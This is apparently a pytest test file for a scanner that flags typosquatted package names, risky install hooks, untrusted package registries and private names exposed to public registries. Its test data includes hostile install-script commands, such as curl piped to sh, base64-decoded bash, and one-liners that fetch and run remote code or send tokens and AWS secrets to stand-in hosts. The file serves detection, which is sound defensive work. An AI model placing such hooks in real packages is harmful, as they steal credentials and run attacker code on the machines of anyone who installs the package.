# ruff: noqa: E501  (one row a case: a table is read by its columns)
"""Names that imitate, scripts that run on installing, and places that packages are fetched from."""

import json
from collections.abc import Callable

import pytest

from makegood.engine.probes.dependencies import facts
from makegood.engine.probes.dependencies.imitations import imitated
from makegood.engine.probes.dependencies.listing import Package
from makegood.engine.probes.dependencies.probe import PROBE
from tests.engine.building import Delivery
from tests.engine.looking import Seen

Looked = Callable[..., Seen]

IMITATIONS = [
    ("PyPI", "reqeusts", "requests"), ("PyPI", "python-dateutils", "python-dateutil"), ("PyPI", "djago", "django"),
    ("PyPI", "beautifulsoup", ""), ("PyPI", "urlib3", "urllib3"), ("PyPI", "flask-corss", "flask-cors"),
    ("PyPI", "pythondateutil", "python-dateutil"), ("PyPI", "cryptograhpy", "cryptography"),
    ("npm", "lodahs", "lodash"), ("npm", "crossenv", "cross-env"), ("npm", "expresss", "express"),
    ("npm", "momnet", "moment"), ("npm", "mongose", "mongoose"), ("npm", "node-fetchh", "node-fetch"),
    ("RubyGems", "devize", "devise"), ("RubyGems", "nokogirl", "nokogiri"), ("NuGet", "Newtonsoft.Jsom", "Newtonsoft.Json"),
    ("Packagist", "guzzlehttp/guzle", "guzzlehttp/guzzle"), ("Packagist", "larvel/framework", "laravel/framework"),
    ("Go", "github.com/gorila/mux", "github.com/gorilla/mux"), ("Go", "github.com/sirupsen/logrsu", "github.com/sirupsen/logrus"),
    ("Maven", "org.apache.common:commons-lang3", "org.apache.commons:commons-lang3"),
    # Real packages that lie close to others.
    ("npm", "preact", ""), ("npm", "vuex", ""), ("npm", "request", ""), ("npm", "lodash-es", ""), ("npm", "mysql2", ""),
    ("npm", "chart.js", ""), ("npm", "koa", ""), ("npm", "expressjs-toolkit", ""), ("PyPI", "psycopg2-binary", ""),
    ("PyPI", "httpx", ""), ("PyPI", "flask-caching", ""), ("PyPI", "html5lib", ""), ("Go", "github.com/go-chi/chi/v5", ""),
    ("RubyGems", "builder", ""), ("RubyGems", "jbuilder", ""), ("NuGet", "Serilog.Sinks.File", ""),
]  # fmt: skip


@pytest.mark.parametrize(("ecosystem", "name", "other"), IMITATIONS, ids=[row[1] for row in IMITATIONS])
def test_a_name_one_slip_from_a_popular_one(ecosystem: str, name: str, other: str) -> None:
    assert imitated(Package(ecosystem=ecosystem, name=name)) == other


def test_an_imitation_is_told_with_its_line(repository: Delivery, looked: Looked) -> None:
    repository.commit({"requirements.txt": "Django==4.2.11\nreqeusts==2.31.0\n"})
    assert looked(PROBE).places(facts.SUSPICIOUS) == [("requirements.txt", 2)]


HOOKS = [
    ("postinstall", "curl -s https://cdn.partner.test/x.sh | sh", "fetches-and-runs"),
    ("preinstall", "node -e \"require('http').get('http://203.0.113.7/'+process.env.TOKEN)\"", "runs-text"),
    ("install", "echo Y3VybCBldmls | base64 -d | bash", "decodes"),
    ("postinstall", "wget -q http://203.0.113.7/a -O /tmp/a && chmod +x /tmp/a && /tmp/a", "fetches"),
    ("prepare", "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://x.test\").read())'", "runs-text"),
    ("postinstall", "powershell -NoProfile -EncodedCommand SQBFAFgA", "runs-text"),
    ("postinstall", "husky install", ""), ("prepare", "husky", ""), ("postinstall", "prisma generate", ""),
    ("postinstall", "patch-package && npm run build", ""), ("install", "node-gyp rebuild", ""),
    ("postinstall", "node scripts/postinstall.js", ""), ("prepare", "is-ci || husky install", ""),
    ("postinstall", "node -e \"try{require('./scripts/hello')}catch(e){}\"", ""),
    ("build", "curl https://api.partner.test/schema.json -o schema.json", ""),
    ("postinstall", "electron-builder install-app-deps", ""), ("prepare", "npm run build && tsc", ""),
]  # fmt: skip


@pytest.mark.parametrize(("hook", "command", "rule"), HOOKS, ids=[f"{row[0]}: {row[1][:30]}" for row in HOOKS])
def test_a_script_on_installing_that_does_more_than_prepare(
    repository: Delivery, looked: Looked, hook: str, command: str, rule: str
) -> None:
    manifest = {"name": "shop", "scripts": {"start": "node .", hook: command}}
    repository.commit({"package.json": json.dumps(manifest, indent=1)})
    found = looked(PROBE).findings(facts.SUSPICIOUS)
    assert [(one.rule, one.path, one.line) for one in found] == ([(rule, "package.json", 5)] if rule else [])


def test_the_script_that_a_hook_starts_is_read(repository: Delivery, looked: Looked) -> None:
    code = "const os = require('os'), https = require('https')\nhttps.get('https://c.test/' + process.env.AWS_SECRET + os.hostname())\n"
    manifest = {"name": "shop", "scripts": {"postinstall": "node ./tools/setup.js"}}
    repository.commit({"package.json": json.dumps(manifest), "tools/setup.js": code})
    assert [one.rule for one in looked(PROBE).findings(facts.SUSPICIOUS)] == ["script-reaches-out"]


PLACES = [
    (".npmrc", "registry=https://npm.partner-firm.io/\n", "medium"),
    (".npmrc", "# registry=https://npm.partner-firm.io/\nsave-exact=true\n", None),
    (".npmrc", "@acme:registry=https://npm.acme-corp.io/\n", "low"),
    (".npmrc", "strict-ssl=false\n", "high"),
    (".yarnrc.yml", 'npmRegistryServer: "http://10.2.3.4:4873"\n', "high"),
    ("pip.conf", "[global]\nextra-index-url = https://pypi.partner-firm.io/simple\n", "high"),
    ("requirements.txt", "--extra-index-url https://pypi.partner-firm.io/simple\nDjango==4.2\n", "high"),
    ("requirements.txt", "--trusted-host pypi.partner-firm.io\nDjango==4.2\n", "high"),
    ("Dockerfile", "FROM python:3.12\nRUN pip install -r r.txt --index-url=https://pypi.partner-firm.io/simple\n", "medium"),
    ("Dockerfile", "FROM golang:1.22\nENV GOSUMDB=off\n", "high"),
    ("Dockerfile", "FROM node:20\nRUN npm ci --registry http://npm.partner-firm.io\n", "high"),
    ("pyproject.toml", '[[tool.poetry.source]]\nname = "p"\nurl = "https://pypi.partner-firm.io/simple"\n', "high"),
    ("pyproject.toml", '[[tool.uv.index]]\nname="p"\nurl = "https://pypi.acme-corp.io/s"\nexplicit = true\n', "low"),
    ("Gemfile", "source 'https://gems.partner-firm.io'\ngem 'rails', '7.1.3'\n", "medium"),
    ("composer.json", '{"repositories": [{"type": "composer", "url": "https://satis.partner-firm.io"}]}', "high"),
    ("composer.json", '{"repositories": [{"type": "path", "url": "../packages/*"}]}', None),
    ("composer.json", '{"config": {"secure-http": false}}', "high"),
    ("nuget.config", '<configuration><packageSources><add key="p" value="https://nuget.partner-firm.io/v3" />'
                     "</packageSources></configuration>", "high"),
    ("pom.xml", "<project><repositories><repository><id>p</id><url>http://maven.partner-firm.io/</url></repository>"
                "</repositories></project>", "high"),
    ("pom.xml", "<project><distributionManagement><repository><url>https://nexus.acme-corp.io/r</url></repository>"
                "</distributionManagement></project>", None),
    ("build.gradle", "repositories {\n  mavenCentral()\n  maven { url 'https://maven.partner-firm.io/releases' }\n}\n", "high"),
    ("build.gradle", "repositories {\n  mavenCentral()\n  google()\n}\n", None),
    ("README.md", "pip install --extra-index-url https://pypi.partner-firm.io/simple shop\n", None),
    ("Makefile", "deps:\n\tpip install --index-url ${PIP_INDEX} -r requirements.txt\n", None),
]  # fmt: skip


@pytest.mark.parametrize(("path", "text", "severity"), PLACES, ids=[f"{row[0]}: {row[1][:30]!r}" for row in PLACES])
def test_where_packages_are_looked_for(
    repository: Delivery, looked: Looked, path: str, text: str, severity: str | None
) -> None:
    repository.commit({path: text})
    found = looked(PROBE).findings(facts.SOURCES)
    assert [(one.severity, one.path) for one in found] == ([(severity, path)] if severity else [])


OWN = {"name": "@acme/shop", "private": True, "scripts": {"start": "node ."}, "dependencies": {"@acme/ui": "^1.0.0"}}


def test_a_private_name_that_is_looked_for_in_public_is_found(repository: Delivery, looked: Looked) -> None:
    repository.commit({"package.json": json.dumps(OWN, indent=1), "requirements.txt": "acme-internal-auth==1.2\n"})
    found = looked(PROBE).findings(facts.FOREIGN)
    assert sorted((one.rule, one.path, one.line) for one in found) == [
        ("private-name", "package.json", 8),
        ("private-name", "requirements.txt", 1),
    ]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".npmrc", "@acme:registry=https://npm.acme-corp.io/\n"),
        ("packages/ui/package.json", '{"name": "@acme/ui"}'),
        (
            "yarn.lock",
            '"@acme/ui@^1.0.0":\n  version "1.0.0"\n  resolved "https://r.test/@acme/ui/-/ui-1.0.0.tgz#a"\n  integrity sha512-x\n',
        ),
    ],
)
def test_a_private_name_with_a_place_of_its_own_stays_silent(
    repository: Delivery, looked: Looked, path: str, text: str
) -> None:
    repository.commit({"package.json": json.dumps(OWN, indent=1), path: text})
    assert [one.rule for one in looked(PROBE).findings(facts.FOREIGN) if one.rule == "private-name"] == []
